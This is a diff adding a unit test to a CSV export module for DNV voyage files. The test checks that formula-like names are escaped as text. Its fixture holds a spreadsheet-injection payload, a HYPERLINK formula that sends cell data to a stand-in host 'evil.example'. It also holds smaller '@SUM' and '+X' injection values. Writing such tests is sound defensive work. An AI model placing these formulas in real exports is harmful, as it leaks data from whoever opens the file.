@@ -38,4 +38,25 @@ describe("DNV voyage file", () => {
     expect(csv.split("\r\n")).toHaveLength(4);
     expect(dnvFileName(VESSEL, A)).toBe("DNV_9395044_2025-03-01_NOOSL-NLRTM.csv");
   });
+
+  it("writes a hostile vessel, voyage or fuel name as text, never a formula, and negative numbers as numbers", () => {
+    const hostile = '=HYPERLINK("http://evil.example/?x="&A2,"Open")';
+    const voyage = {
+      ...A,
+      voyageName: hostile,
+      cargo: [{ unit: "Tonnes", amount: -3.5 }],
+      fuels: [{ ...A.fuels[0]!, fuelType: { ...A.fuels[0]!.fuelType, name: "@SUM(1+1)", shortName: "+X" } }],
+    };
+    const [row] = parse(dnvVoyageCsv({ ...VESSEL, name: "-Aurora" }, voyage), { columns: true }) as Record<
+      string,
+      string
+    >[];
+    expect(row).toMatchObject({
+      VesselName: "'-Aurora",
+      VoyageName: `'${hostile}`,
+      FuelType: "'@SUM(1+1)",
+      FuelShortName: "'+X",
+      "Cargo Tonnes": "-3.5",
+    });
+  });
 });
